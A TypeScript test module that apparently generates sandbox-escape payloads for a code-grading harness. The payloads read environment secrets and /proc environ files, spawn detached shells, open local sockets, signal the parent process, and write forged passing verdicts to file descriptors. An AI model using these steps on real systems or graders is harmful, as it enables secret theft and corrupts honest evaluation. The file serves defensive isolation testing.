/**
 * What an attack does with the host's `process` once it has it: steals, writes, spawns, connects, forges. As text, since
 * it runs where the student's code runs.
 */
import { type Bait, SIGNAL } from './surroundings.ts'

/** Stands in a report when an attack got hold of the process that runs it; what it did with it, the bait tells. */
export const ESCAPED = 'reached the host'

/** Declares the function `plunder(process)`, which tries everything and gives what it stole as a string. */
export function plunderText(bait: Bait): string {
  return `
const plunder = (host) => {
  const loot = []
  const attempt = (run) => {
    try {
      const got = run()
      if (typeof got === 'string' && got !== '') loot.push(got.slice(0, 60))
    } catch {}
  }
  const load = (name) => {
    if (host.getBuiltinModule) return host.getBuiltinModule(name)
    return host.mainModule.require(name)
  }
  const marked = (text) => {
    const at = text.indexOf(${JSON.stringify(bait.mark)})
    return at < 0 ? '' : text.slice(at, at + 40)
  }
  attempt(() => marked(Object.values(host.env).join(' ')))
  attempt(() => marked(load('fs').readFileSync(${JSON.stringify(bait.secretFile)}, 'utf8')))
  attempt(() => marked(load('fs').readFileSync('/proc/self/environ', 'latin1')))
  attempt(() => marked(load('fs').readFileSync('/proc/' + host.ppid + '/environ', 'latin1')))
  attempt(() => load('fs').readFileSync(${JSON.stringify(`${bait.project}/package.json`)}, 'utf8').match(/"description": "(.{30})/)[1])
  for (const folder of ${JSON.stringify(bait.folders)}) {
    attempt(() => load('fs').writeFileSync(folder + '/${bait.mark}', 'x'))
  }
  attempt(() => {
    const child = load('child_process').spawn('/bin/sh', ['-c', 'sleep 600; true', '${bait.mark}'], { detached: true, stdio: 'ignore' })
    child.on('error', () => {})
    child.unref()
  })
  attempt(() => load('child_process').execFileSync('/bin/sh', ['-c', 'touch /tmp/${bait.mark}'], { timeout: 100 }))
  attempt(() => load('net').connect(${bait.tcpPort}, '127.0.0.1').on('error', () => {}).write('${bait.mark}'))
  attempt(() => {
    const socket = load('dgram').createSocket('udp4')
    socket.on('error', () => {})
    socket.send('${bait.mark}', ${bait.udpPort}, '127.0.0.1')
  })
  attempt(() => {
    const { TCP, TCPConnectWrap, constants } = host.binding('tcp_wrap')
    new TCP(constants.SOCKET).connect(new TCPConnectWrap(), '127.0.0.1', ${bait.tcpPort})
  })
  attempt(() => host.kill(host.ppid, '${SIGNAL}'))
  attempt(() => host.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'touch /tmp/${bait.mark}'], envPairs: [], stdio: [] }))
  attempt(() => {
    const { Worker } = load('worker_threads')
    new Worker('for (;;) {}', { eval: true }).on('error', () => {})
  })
  return '${ESCAPED}: ' + loot.join(' ')
}
`
}

/** Declares `forge(process)`: writes what might pass for answers of a right solution to every descriptor it finds. */
export function forgeText(): string {
  return `
const forge = (host) => {
  const load = (name) => (host.getBuiltinModule ? host.getBuiltinModule(name) : host.mainModule.require(name))
  const fs = load('fs')
  const texts = ['{"kind":"answered","value":0}', '{"verdict":"held"}', 'null', '["answered",0]']
  for (let descriptor = 1; descriptor < 12; descriptor++) {
    for (const text of texts) {
      const frame = new Uint8Array(4 + text.length)
      new DataView(frame.buffer).setUint32(0, text.length, true)
      for (let at = 0; at < text.length; at++) frame[4 + at] = text.charCodeAt(at)
      try { fs.writeSync(descriptor, frame) } catch {}
    }
  }
  return '${ESCAPED}'
}
`
}
